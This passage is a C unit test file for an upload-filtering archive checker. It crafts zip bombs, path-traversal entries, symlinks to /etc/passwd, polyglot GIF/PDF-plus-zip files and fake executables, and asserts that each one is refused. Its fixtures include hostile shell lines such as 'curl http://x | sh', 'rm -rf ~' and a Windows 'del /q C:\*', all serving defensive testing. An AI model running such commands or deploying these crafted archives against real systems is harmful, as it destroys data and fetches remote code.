/*
 * What archives hold (src/files/archive.c): every sample is made here
 * with libarchive's writer (zip, 7z, tar and its compressed kinds,
 * nested zips, symlinks, hard links, devices, traversal names, an
 * encrypted zip, zip bombs by ratio, by total and by depth) or by hand
 * (polyglots: a GIF and a PDF with a zip appended, a tar that is a PDF).
 * Each refusal has its control beside it: the same sample accepted once
 * the limit allows it, or its harmless twin accepted.
 */
#include "unit.h"

#include <archive.h>
#include <archive_entry.h>
#include <locale.h>
#include <strings.h>

#include "files/check.h"

/* --- a memory source ------------------------------------------------------------------- */

struct mem {
	const unsigned char *p;
	size_t n;
	int fail; /* read_at fails */
};

static long
mem_read(void *ud, uint64_t off, void *buf, size_t n)
{
	struct mem *m = ud;
	if (m->fail)
		return -1;
	assert_true(off <= m->n);
	size_t k = m->n - (size_t)off < n ? m->n - (size_t)off : n;
	memcpy(buf, m->p + off, k);
	return (long)k;
}

static const struct files_limits big = {
    .entries = 10000, .unpacked = 1073741824, .ratio = 200, .depth = 3};

static const struct files_type *
type_of(const char *ext)
{
	size_t n;
	const struct files_type *t = files_types(&n);
	for (size_t i = 0; i < n; i++)
		if (strcmp(t[i].ext, ext) == 0)
			return &t[i];
	fail_msg("no type %s", ext);
	return NULL;
}

static char why[512];
static struct files_archive_result res;

static bw_err
check_lim(const void *p, size_t n, const char *ext, const struct files_limits *lim)
{
	struct mem m = {p, n, 0};
	struct files_source src = {mem_read, n, &m};
	memset(why, 'Z', sizeof(why));
	bw_err e = files_archive_check(&src, type_of(ext), lim, &res, why, sizeof(why));
	if (e != BW_OK)
		assert_true(why[0] != '\0' && memchr(why, '\0', sizeof(why)) != NULL);
	return e;
}

static bw_err
check(const void *p, size_t n, const char *ext)
{
	return check_lim(p, n, ext, &big);
}

static void
assert_refused(const void *p, size_t n, const char *ext, const struct files_limits *lim,
	       const char *why_has)
{
	bw_err e = check_lim(p, n, ext, lim ? lim : &big);
	if (e != BW_ERR_UNPROCESSABLE)
		fail_msg("%s sample: %s, not refused (%s)", ext, bw_errcode(e), e ? why : "-");
	if (why_has != NULL && strstr(why, why_has) == NULL)
		fail_msg("why \"%s\" does not say \"%s\"", why, why_has);
}

static void
assert_accepted(const void *p, size_t n, const char *ext, const struct files_limits *lim)
{
	bw_err e = check_lim(p, n, ext, lim ? lim : &big);
	if (e != BW_OK)
		fail_msg("%s sample refused: %s (%s)", ext, bw_errcode(e), why);
}

/* --- making archives --------------------------------------------------------------------- */

enum kind { REG, DIR_, SYMLINK, HARDLINK, CHARDEV };

struct ent {
	const char *name;
	const void *data;
	size_t len;
	enum kind kind;
	const char *link;
};

struct out {
	unsigned char *p;
	size_t n, cap;
};

static la_ssize_t
out_write(struct archive *a, void *ud, const void *buf, size_t n)
{
	(void)a;
	struct out *o = ud;
	if (o->n + n > o->cap) {
		size_t cap = o->cap ? o->cap * 2 : 65536;
		while (cap < o->n + n)
			cap *= 2;
		o->p = realloc(o->p, cap);
		assert_non_null(o->p);
		o->cap = cap;
	}
	memcpy(o->p + o->n, buf, n);
	o->n += n;
	return (la_ssize_t)n;
}

#define V7TAR (-1) /* a tar without "ustar" in its header */

/* An archive of format fmt (ARCHIVE_FORMAT_*), filter (ARCHIVE_FILTER_*), options, passphrase. */
static struct out
mk(int fmt, int filter, const char *opts, const char *pass, const struct ent *e, size_t n)
{
	struct out o = {0};
	/* The writer in UTF-8; the checks run in the test's C locale, as the server's. */
	locale_t loc = newlocale(LC_CTYPE_MASK, "C.UTF-8", (locale_t)0);
	assert_non_null(loc);
	locale_t old = uselocale(loc);
	struct archive *a = archive_write_new();
	assert_non_null(a);
	if (fmt == V7TAR)
		assert_int_equal(archive_write_set_format_v7tar(a), ARCHIVE_OK);
	else
		assert_int_equal(archive_write_set_format(a, fmt), ARCHIVE_OK);
	if (filter != ARCHIVE_FILTER_NONE)
		assert_int_equal(archive_write_add_filter(a, filter), ARCHIVE_OK);
	if (opts != NULL)
		assert_int_equal(archive_write_set_options(a, opts), ARCHIVE_OK);
	if (pass != NULL)
		assert_int_equal(archive_write_set_passphrase(a, pass), ARCHIVE_OK);
	assert_int_equal(archive_write_set_bytes_in_last_block(a, 1), ARCHIVE_OK);
	assert_int_equal(archive_write_open(a, &o, NULL, out_write, NULL), ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *ae = archive_entry_new();
		archive_entry_set_pathname_utf8(ae, e[i].name);
		archive_entry_set_mtime(ae, 1796182278, 0);
		switch (e[i].kind) {
		case REG:
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_perm(ae, 0644);
			archive_entry_set_size(ae, (la_int64_t)e[i].len);
			break;
		case DIR_:
			archive_entry_set_filetype(ae, AE_IFDIR);
			archive_entry_set_perm(ae, 0755);
			break;
		case SYMLINK:
			archive_entry_set_filetype(ae, AE_IFLNK);
			archive_entry_set_perm(ae, 0777);
			archive_entry_set_symlink(ae, e[i].link);
			break;
		case HARDLINK:
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_perm(ae, 0644);
			archive_entry_set_hardlink(ae, e[i].link);
			break;
		case CHARDEV:
			archive_entry_set_filetype(ae, AE_IFCHR);
			archive_entry_set_perm(ae, 0600);
			archive_entry_set_rdev(ae, 0x0103);
			break;
		}
		assert_true(archive_write_header(a, ae) >= ARCHIVE_WARN);
		if (e[i].kind == REG && e[i].len > 0) {
			const unsigned char *p = e[i].data;
			size_t left = e[i].len;
			while (left > 0) {
				size_t c = left < 1 << 20 ? left : 1 << 20;
				assert_true(archive_write_data(a, p, c) == (la_ssize_t)c);
				p += c, left -= c;
			}
		}
		archive_entry_free(ae);
	}
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	uselocale(old);
	freelocale(loc);
	return o;
}

static struct out
zip(const struct ent *e, size_t n)
{
	return mk(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, NULL, e, n);
}

/* One regular entry. */
static struct out
zip1(const char *name, const void *data, size_t len)
{
	struct ent e = {name, data, len, REG, NULL};
	return zip(&e, 1);
}

static struct out
cat(const void *a, size_t an, const void *b, size_t bn)
{
	struct out o = {malloc(an + bn), an + bn, an + bn};
	assert_non_null(o.p);
	memcpy(o.p, a, an);
	memcpy(o.p + an, b, bn);
	return o;
}

static const char text[] = "2026-12-02 10:00:00 INFO service started\n"
			   "2026-12-02 10:00:01 WARN disk 91% full\n";
static const char pdf[] = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
			  "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
			  "trailer\n<< /Root 1 0 R >>\n%%EOF\n";
static const unsigned char gif[] = {'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0x80, 0, 0,
				    0,   0,   0,   0xff, 0xff, 0xff, '!', 0xf9, 4, 1, 0, 0, 0,
				    0,   ',', 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 'D', 1, 0, ';'};
static const unsigned char png[] = {
    0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R', 0, 0, 0, 1,
    0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 'I', 'E', 'N', 'D', 0xae,
    0x42, 0x60, 0x82};

static void
make_elf(unsigned char *b, size_t n)
{
	memset(b, 0, n);
	memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
	b[16] = 2, b[18] = 62, b[20] = 1;
}

static void
make_pe(unsigned char *b, size_t n)
{
	memset(b, 0, n);
	b[0] = 'M', b[1] = 'Z', b[2] = 0x90, b[4] = 3, b[8] = 4, b[0x18] = 0x40, b[0x3c] = 0x80;
	memcpy(b + 0x80, "PE\0\0\x4c\x01\x01\0", 8);
	b[0x94] = 0xe0, b[0x96] = 0x02, b[0x97] = 0x01, b[0x98] = 0x0b, b[0x99] = 0x01;
}

/* --- documents are not archives ----------------------------------------------------------- */

static void
test_documents_are_not_archives(void **state)
{
	(void)state;
	assert_int_equal(check(text, strlen(text), "log"), BW_OK);
	assert_false(res.is_archive);
	assert_int_equal(res.depth, 1);
	assert_int_equal(check(pdf, strlen(pdf), "pdf"), BW_OK);
	assert_false(res.is_archive);
	assert_int_equal(check(png, sizeof(png), "png"), BW_OK);
	assert_int_equal(check(gif, sizeof(gif), "gif"), BW_OK);
	assert_int_equal(check("", 0, "txt"), BW_OK);
	assert_false(res.is_archive);
	/* A tar end-of-archive block, and text that looks like mtree: no archive. */
	static unsigned char zeros[4096];
	assert_int_equal(check(zeros, sizeof(zeros), "txt"), BW_OK);
	const char *mtree = "#mtree\n./etc/passwd type=file\n";
	assert_int_equal(check(mtree, strlen(mtree), "txt"), BW_OK);
	assert_false(res.is_archive);
	/* libarchive's "raw" reader takes anything: it is never on for documents. */
	char big_text[70000];
	for (size_t i = 0; i < sizeof(big_text); i++)
		big_text[i] = (char)('a' + i % 26);
	assert_int_equal(check(big_text, sizeof(big_text), "txt"), BW_OK);
	assert_false(res.is_archive);
}

/*
 * Found by fuzz_archive: a GIF with a damaged zip after it, which libarchive
 * reads as a zip that gives no entry. Still a polyglot: refused.
 */
static const unsigned char gif_damaged_zip[] = {0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x00, 0x00,  0x00, 0x3b, 0x50, 0x4b, 0x03, 0x04, 0x78, 0x74, 0xcb, 0x48, 0xcd, 0xc9,  0xc9, 0xe7, 0x02, 0x00, 0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00,  0x08, 0x00, 0x94, 0x62, 0x82, 0x5d, 0x8f, 0x5d, 0x0e, 0x5e, 0x06, 0x00,  0x14, 0x00, 0x00, 0x00, 0x08, 0x00, 0x94, 0x62, 0x82, 0x5d, 0x20, 0x30,  0x3a, 0x36, 0x08, 0x00, 0x00, 0x00, 0x06, 0x00, 0x00, 0x00, 0x05, 0x00,  0x00, 0x00, 0x61, 0x2e, 0x74, 0x78, 0x74, 0xcb, 0x48, 0xcd, 0xc9, 0xc9,  0xe7, 0x02, 0x00, 0x08, 0x00, 0x94, 0x62, 0x82, 0x5d, 0x8f, 0x5d, 0x0e,  0x5e, 0x06, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,  0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,  0x00, 0x00, 0x00, 0x00, 0x40, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,  0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,  0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,  0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x7b, 0x02, 0x14, 0x03, 0x14,  0x00, 0x00, 0x00, 0x08, 0x00, 0x94, 0x62, 0x82, 0x5d, 0x8f, 0x5d, 0x0e,  0x5e, 0x06, 0x00, 0x00, 0x00, 0x64, 0x00, 0x00, 0x00, 0x07, 0x00, 0x00,  0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x80, 0x01, 0x2b,  0x00, 0x00, 0x00, 0x64, 0x2f, 0x62, 0x2e, 0x6c, 0x6f, 0x67, 0x50, 0x4b,  0x05, 0x06, 0x00, 0x00, 0x00, 0x00, 0x02, 0x00, 0x02, 0x00, 0x68, 0x00,  0x00, 0x00, 0x56, 0x00, 0x00, 0x00, 0x68, 0x00, 0x00, 0x00, 0x56, 0x00,  0x00, 0x00, 0x00, 0x00};

static void
test_polyglot_with_no_entry(void **state)
{
	(void)state;
	assert_int_equal(check(gif_damaged_zip, sizeof(gif_damaged_zip), "gif"),
			 BW_ERR_UNPROCESSABLE);
	assert_true(res.is_archive);
}

/* --- archives accepted --------------------------------------------------------------------- */

static void
test_formats_accepted(void **state)
{
	(void)state;
	struct ent e[] = {{"docs/", NULL, 0, DIR_, NULL},
			  {"docs/readme.txt", text, strlen(text), REG, NULL},
			  {"docs/syslog", text, strlen(text), REG, NULL},
			  {"docs/empty.pdf", "", 0, REG, NULL},
			  {"scan.png", png, sizeof(png), REG, NULL},
			  {"r\xc3\xa9sum\xc3\xa9.pdf", pdf, strlen(pdf), REG, NULL}};
	static const struct {
		int fmt, filter;
		const char *ext;
	} v[] = {{ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "zip"},
		 {ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, "7z"},
		 {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, "tar"},
		 {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, "tar.gz"},
		 {ARCHIVE_FORMAT_TAR_GNUTAR, ARCHIVE_FILTER_GZIP, "tgz"},
		 {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_BZIP2, "tar.bz2"},
		 {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_XZ, "tar.xz"}};
	for (size_t i = 0; i < BW_ARRAY_LEN(v); i++) {
		struct out o = mk(v[i].fmt, v[i].filter, NULL, NULL, e, BW_ARRAY_LEN(e));
		assert_accepted(o.p, o.n, v[i].ext, NULL);
		assert_true(res.is_archive);
		assert_int_equal(res.entries, BW_ARRAY_LEN(e));
		assert_int_equal(res.unpacked, 2 * strlen(text) + sizeof(png) + strlen(pdf));
		assert_int_equal(res.depth, 1);
		assert_true(res.format[0] != '\0');
		free(o.p);
	}
	/* A .gz of one file: its bytes are checked like an entry's. */
	struct out g = mk(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, NULL, NULL,
			  &(struct ent){"data", text, strlen(text), REG, NULL}, 1);
	assert_accepted(g.p, g.n, "gz", NULL);
	assert_int_equal(res.unpacked, strlen(text));
	free(g.p);
	unsigned char elf[256];
	make_elf(elf, sizeof(elf));
	g = mk(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, NULL, NULL,
	       &(struct ent){"data", elf, sizeof(elf), REG, NULL}, 1);
	assert_refused(g.p, g.n, "gz", NULL, "executable");
	free(g.p);
	/* Named .zip, yet not an archive libarchive reads. */
	assert_refused(text, strlen(text), "zip", NULL, "not an archive");
}

static void
test_office_containers(void **state)
{
	(void)state;
	const char *ct = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
			 "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
			 "content-types\"></Types>";
	const char *xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<w:document/>";
	unsigned char devmode[1024];
	for (size_t i = 0; i < sizeof(devmode); i++)
		devmode[i] = (unsigned char)(i * 37 + 11);
	struct ent docx[] = {{"[Content_Types].xml", ct, strlen(ct), REG, NULL},
			     {"_rels/.rels", xml, strlen(xml), REG, NULL},
			     {"word/document.xml", xml, strlen(xml), REG, NULL},
			     {"word/media/image1.png", png, sizeof(png), REG, NULL},
			     {"xl/printerSettings/printerSettings1.bin", devmode, sizeof(devmode),
			      REG, NULL}};
	struct out o = zip(docx, BW_ARRAY_LEN(docx));
	assert_accepted(o.p, o.n, "docx", NULL);
	assert_int_equal(res.entries, BW_ARRAY_LEN(docx));
	/* The same opaque part is no file of its own in a plain zip. */
	assert_refused(o.p, o.n, "zip", NULL, "printerSettings1.bin");
	free(o.p);
	/* An Office icon is SVG; a script is not an icon. */
	const char *svg = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
			  "width=\"1\" height=\"1\"></svg>\n";
	struct ent icon[] = {{"[Content_Types].xml", ct, strlen(ct), REG, NULL},
			     {"word/media/image2.svg", svg, strlen(svg), REG, NULL}};
	o = zip(icon, BW_ARRAY_LEN(icon));
	assert_accepted(o.p, o.n, "docx", NULL);
	assert_refused(o.p, o.n, "zip", NULL, ".svg");
	free(o.p);
	const char *sh = "#!/bin/sh\nrm -rf ~\n";
	icon[1] = (struct ent){"word/media/image2.svg", sh, strlen(sh), REG, NULL};
	o = zip(icon, BW_ARRAY_LEN(icon));
	assert_refused(o.p, o.n, "docx", NULL, "svg");
	free(o.p);
	/* Macros: a docm renamed docx. */
	struct ent macro[] = {{"[Content_Types].xml", ct, strlen(ct), REG, NULL},
			      {"word/vbaProject.bin", devmode, sizeof(devmode), REG, NULL}};
	o = zip(macro, BW_ARRAY_LEN(macro));
	assert_refused(o.p, o.n, "docx", NULL, "macros");
	free(o.p);
	macro[1].name = "word/vbaData.bin";
	o = zip(macro, BW_ARRAY_LEN(macro));
	assert_accepted(o.p, o.n, "docx", NULL);
	free(o.p);
	/* An executable is refused in a container too. */
	unsigned char pe[512];
	make_pe(pe, sizeof(pe));
	macro[1] = (struct ent){"word/embeddings/oleObject1.bin", pe, sizeof(pe), REG, NULL};
	o = zip(macro, BW_ARRAY_LEN(macro));
	assert_refused(o.p, o.n, "docx", NULL, "executable");
	free(o.p);
}

/* --- what entries may not be ----------------------------------------------------------------- */

static void
test_traversal_and_absolute(void **state)
{
	(void)state;
	static const char *const bad[] = {"../evil.txt", "docs/../../evil.txt", "/etc/cron.d/x.txt",
					  "C:/Windows/evil.txt", "a\\..\\evil.txt"};
	for (size_t i = 0; i < BW_ARRAY_LEN(bad); i++) {
		struct out o = zip1(bad[i], text, strlen(text));
		assert_refused(o.p, o.n, "zip", NULL, "entry \"");
		free(o.p);
		o = mk(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, NULL, NULL,
		       &(struct ent){bad[i], text, strlen(text), REG, NULL}, 1);
		assert_refused(o.p, o.n, "tar", NULL, NULL);
		free(o.p);
	}
	struct out o = zip1("docs/evil.txt", text, strlen(text));
	assert_accepted(o.p, o.n, "zip", NULL);
	free(o.p);
	o = zip1("../evil.txt", text, strlen(text));
	assert_refused(o.p, o.n, "zip", NULL, "climbs out");
	free(o.p);
	/* The right-to-left override in an entry; the name is shown sanitised. */
	o = zip1("invoice\xe2\x80\xae" "fdp.txt", text, strlen(text));
	assert_refused(o.p, o.n, "zip", NULL, "entry \"invoice???fdp.txt\"");
	free(o.p);
}

static void
test_links_and_devices(void **state)
{
	(void)state;
	struct ent sl[] = {{"a.txt", text, strlen(text), REG, NULL},
			   {"passwd.txt", NULL, 0, SYMLINK, "/etc/passwd"}};
	struct out o = zip(sl, BW_ARRAY_LEN(sl));
	assert_refused(o.p, o.n, "zip", NULL, "symbolic link");
	free(o.p);
	o = mk(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, NULL, NULL, sl, 2);
	assert_refused(o.p, o.n, "tar", NULL, "symbolic link");
	free(o.p);
	struct ent hl[] = {{"a.txt", text, strlen(text), REG, NULL},
			   {"b.txt", NULL, 0, HARDLINK, "a.txt"}};
	o = mk(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, NULL, NULL, hl, 2);
	assert_refused(o.p, o.n, "tar", NULL, "hard link");
	free(o.p);
	struct ent dev[] = {{"null.txt", NULL, 0, CHARDEV, NULL}};
	o = mk(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, NULL, NULL, dev, 1);
	assert_refused(o.p, o.n, "tar", NULL, "device");
	free(o.p);
	/* The control: the regular entry alone. */
	o = mk(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_NONE, NULL, NULL, sl, 1);
	assert_accepted(o.p, o.n, "tar", NULL);
	free(o.p);
}

static void
test_encrypted(void **state)
{
	(void)state;
	struct ent e = {"secret.txt", text, strlen(text), REG, NULL};
	struct out o = mk(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "zip:encryption=zipcrypt",
			  "hunter2", &e, 1);
	assert_refused(o.p, o.n, "zip", NULL, "encrypted archives are refused by policy");
	free(o.p);
	o = mk(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "zip:encryption=aes256", "hunter2", &e, 1);
	assert_refused(o.p, o.n, "zip", NULL, "encrypted");
	free(o.p);
	o = mk(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, NULL, NULL, &e, 1);
	assert_accepted(o.p, o.n, "zip", NULL);
	free(o.p);
}

static void
test_executables_inside(void **state)
{
	(void)state;
	unsigned char elf[512], pe[512];
	make_elf(elf, sizeof(elf));
	make_pe(pe, sizeof(pe));
	const char *sh = "#!/bin/sh\ncurl http://x | sh\n";
	const char *bat = "@echo off\r\ndel /q C:\\*\r\n";
	static const char *const names[] = {"notes.txt", "readme", "docs/report.pdf"};
	const struct {
		const void *p;
		size_t n;
	} payloads[] = {{elf, sizeof(elf)}, {pe, sizeof(pe)}, {sh, strlen(sh)}, {bat, strlen(bat)}};
	for (size_t i = 0; i < BW_ARRAY_LEN(names); i++)
		for (size_t j = 0; j < BW_ARRAY_LEN(payloads); j++) {
			struct ent e[] = {{"ok.txt", text, strlen(text), REG, NULL},
					  {names[i], payloads[j].p, payloads[j].n, REG, NULL}};
			struct out o = zip(e, 2);
			assert_refused(o.p, o.n, "zip", NULL, "an executable or a script");
			assert_non_null(strstr(why, names[i]));
			free(o.p);
			o = mk(ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, NULL, NULL, e, 2);
			assert_refused(o.p, o.n, "7z", NULL, names[i]);
			free(o.p);
			o = mk(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, NULL, NULL, e, 2);
			assert_refused(o.p, o.n, "tar.gz", NULL, names[i]);
			free(o.p);
		}
	struct out o = zip1("payload.exe", text, strlen(text));
	assert_refused(o.p, o.n, "zip", NULL, ".exe is blocked");
	free(o.p);
	o = zip1("Tool.app/Contents/Info.txt", text, strlen(text));
	assert_refused(o.p, o.n, "zip", NULL, ".app is blocked");
	free(o.p);
	/* An entry's bytes must be its extension's type; without one, an allowed type. */
	o = zip1("photo.pdf", png, sizeof(png));
	assert_refused(o.p, o.n, "zip", NULL, "image/png");
	free(o.p);
	o = zip1("photo", png, sizeof(png));
	assert_accepted(o.p, o.n, "zip", NULL);
	free(o.p);
	o = zip1("main.c", "#include <stdio.h>\nint main(void) { return 0; }\n", 49);
	assert_refused(o.p, o.n, "zip", NULL, "not allowed");
	free(o.p);
}

/* --- bombs ------------------------------------------------------------------------------- */

static void
test_zip_bomb_ratio(void **state)
{
	(void)state;
	size_t n = 16 << 20;
	struct files_limits lax = big;
	lax.ratio = 100000;
	/* A bomb of text, and its control. */
	char *lines = malloc(n);
	assert_non_null(lines);
	for (size_t i = 0; i < n; i++)
		lines[i] = "ok\n"[i % 3];
	struct out o = zip1("big.log", lines, n);
	free(lines);
	assert_true(o.n < n / 500);
	/* Refused while unpacking: far fewer bytes than the entry holds were read. */
	assert_refused(o.p, o.n, "zip", NULL, "times its size");
	assert_true(res.unpacked < n);
	assert_true(res.unpacked <= FILES_RATIO_GRACE + 200 * o.n + 65536);
	assert_accepted(o.p, o.n, "zip", &lax);
	assert_int_equal(res.unpacked, n);
	free(o.p);
}

static void
test_zip_bomb_total(void **state)
{
	(void)state;
	size_t n = 8 << 20;
	char *lines = malloc(n);
	assert_non_null(lines);
	for (size_t i = 0; i < n; i++)
		lines[i] = "ok\n"[i % 3];
	struct ent e[] = {{"a.log", lines, n, REG, NULL}, {"b.log", lines, n, REG, NULL}};
	struct out o = zip(e, 2);
	free(lines);
	struct files_limits lim = big;
	lim.ratio = 1000000;
	lim.unpacked = 12 << 20;
	assert_refused(o.p, o.n, "zip", &lim, "more than 12582912 bytes");
	assert_true(strstr(why, "b.log") != NULL);
	assert_true(res.unpacked <= lim.unpacked + 65536);
	lim.unpacked = 16 << 20;
	assert_accepted(o.p, o.n, "zip", &lim);
	free(o.p);
}

static void
test_entry_count(void **state)
{
	(void)state;
	struct ent e[20];
	char names[20][24];
	for (int i = 0; i < 20; i++) {
		snprintf(names[i], sizeof(names[i]), "f%02d.txt", i);
		e[i] = (struct ent){names[i], text, strlen(text), REG, NULL};
	}
	struct out o = zip(e, 20);
	struct files_limits lim = big;
	lim.entries = 19;
	assert_refused(o.p, o.n, "zip", &lim, "more than 19 entries");
	lim.entries = 20;
	assert_accepted(o.p, o.n, "zip", &lim);
	free(o.p);
}

/* A zip within a zip, levels deep; the innermost holds a text file. */
static struct out
nested(int levels)
{
	struct out o = zip1("deep.txt", text, strlen(text));
	for (int i = 1; i < levels; i++) {
		char name[32];
		snprintf(name, sizeof(name), "level%d.zip", levels - i);
		struct out outer = zip1(name, o.p, o.n);
		free(o.p);
		o = outer;
	}
	return o;
}

static void
test_depth(void **state)
{
	(void)state;
	struct out o = nested(3);
	assert_accepted(o.p, o.n, "zip", NULL);
	assert_int_equal(res.depth, 3);
	assert_int_equal(res.entries, 3);
	free(o.p);
	o = nested(4);
	assert_refused(o.p, o.n, "zip", NULL, "nested deeper than 3");
	struct files_limits lim = big;
	lim.depth = 4;
	assert_accepted(o.p, o.n, "zip", &lim);
	assert_int_equal(res.depth, 4);
	free(o.p);
	/* An executable two levels down, named in the reason with its parents. */
	unsigned char elf[256];
	make_elf(elf, sizeof(elf));
	struct out in = zip1("tool.txt", elf, sizeof(elf));
	struct out mid = zip1("inner.zip", in.p, in.n);
	assert_refused(mid.p, mid.n, "zip", NULL, "entry \"tool.txt\" in \"inner.zip\"");
	free(in.p);
	/* A tar.gz in a 7z in a zip. */
	struct out tgz = mk(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, NULL, NULL,
			    &(struct ent){"x.txt", elf, sizeof(elf), REG, NULL}, 1);
	struct out sz = mk(ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, NULL, NULL,
			   &(struct ent){"in.tar.gz", tgz.p, tgz.n, REG, NULL}, 1);
	struct out z = zip1("in.7z", sz.p, sz.n);
	assert_refused(z.p, z.n, "zip", NULL, "entry \"x.txt\" in \"in.tar.gz\" in \"in.7z\"");
	free(tgz.p), free(sz.p), free(z.p), free(mid.p);
	/* A nested bomb: each level's bytes are counted, the limits are shared. */
	size_t n = 4 << 20;
	char *lines = malloc(n);
	assert_non_null(lines);
	for (size_t i = 0; i < n; i++)
		lines[i] = "ok\n"[i % 3];
	in = zip1("big.log", lines, n);
	free(lines);
	mid = zip1("a.zip", in.p, in.n);
	lim = big;
	lim.ratio = 100;
	assert_refused(mid.p, mid.n, "zip", &lim, "times its size");
	free(in.p), free(mid.p);
}

/* --- polyglots ---------------------------------------------------------------------------- */

static void
test_polyglots(void **state)
{
	(void)state;
	unsigned char pe[512];
	make_pe(pe, sizeof(pe));
	struct out z = zip1("evil.exe", pe, sizeof(pe));
	struct out p = cat(gif, sizeof(gif), z.p, z.n);
	assert_refused(p.p, p.n, "gif", NULL, "polyglot");
	assert_true(res.is_archive);
	free(p.p);
	p = cat(pdf, strlen(pdf), z.p, z.n);
	assert_refused(p.p, p.n, "pdf", NULL, "polyglot");
	free(p.p);
	/* A zip comment beyond libarchive's 16 KiB search: the EOCD scan still finds it. */
	char *comment = malloc(30000);
	assert_non_null(comment);
	memset(comment, 'c', 30000);
	unsigned char *zc = malloc(z.n + 30000);
	assert_non_null(zc);
	memcpy(zc, z.p, z.n);
	zc[z.n - 2] = 30000 & 0xff, zc[z.n - 1] = 30000 >> 8;
	memcpy(zc + z.n, comment, 30000);
	p = cat(pdf, strlen(pdf), zc, z.n + 30000);
	assert_refused(p.p, p.n, "pdf", NULL, "also a zip archive");
	free(p.p), free(zc), free(comment);
	/*
	 * A tar whose first name is a PDF header (PDF readers look for it in the
	 * first KiB): libmagic checks tar checksums and says tar, and libarchive,
	 * a second opinion, reads it as one.
	 */
	struct out t = mk(V7TAR, ARCHIVE_FILTER_NONE, NULL, NULL,
			  &(struct ent){"%PDF-1.4 x.txt", text, strlen(text), REG, NULL}, 1);
	assert_refused(t.p, t.n, "pdf", NULL, "also a tar");
	free(t.p);
	/* A tar with a zip after it. */
	t = mk(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, NULL, NULL,
	       &(struct ent){"a.txt", text, strlen(text), REG, NULL}, 1);
	assert_accepted(t.p, t.n, "tar", NULL);
	p = cat(t.p, t.n, z.p, z.n);
	assert_refused(p.p, p.n, "tar", NULL, "also a zip");
	free(p.p), free(t.p);
	/* Inside an archive: a GIF with a zip appended, read as a stream. */
	p = cat(gif, sizeof(gif), z.p, z.n);
	struct out outer = zip1("cat.gif", p.p, p.n);
	assert_refused(outer.p, outer.n, "zip", NULL, "entry \"cat.gif\": it is also a zip");
	free(outer.p), free(p.p);
	outer = zip1("cat.gif", gif, sizeof(gif));
	assert_accepted(outer.p, outer.n, "zip", NULL);
	free(outer.p);
	free(z.p);
}

/* --- the source ---------------------------------------------------------------------------- */

static void
test_source_fails(void **state)
{
	(void)state;
	struct out o = zip1("a.txt", text, strlen(text));
	struct mem m = {o.p, o.n, 1};
	struct files_source src = {mem_read, o.n, &m};
	assert_int_equal(files_archive_check(&src, type_of("zip"), &big, &res, why, sizeof(why)),
			 BW_ERR_IO);
	assert_int_equal(files_archive_check(&src, type_of("pdf"), &big, &res, why, sizeof(why)),
			 BW_ERR_IO);
	/* A why too short to hold the reason is cut, still a string. */
	m.fail = 0;
	char tiny[8];
	struct out b = zip1("../x.txt", text, strlen(text));
	struct mem mb = {b.p, b.n, 0};
	struct files_source sb = {mem_read, b.n, &mb};
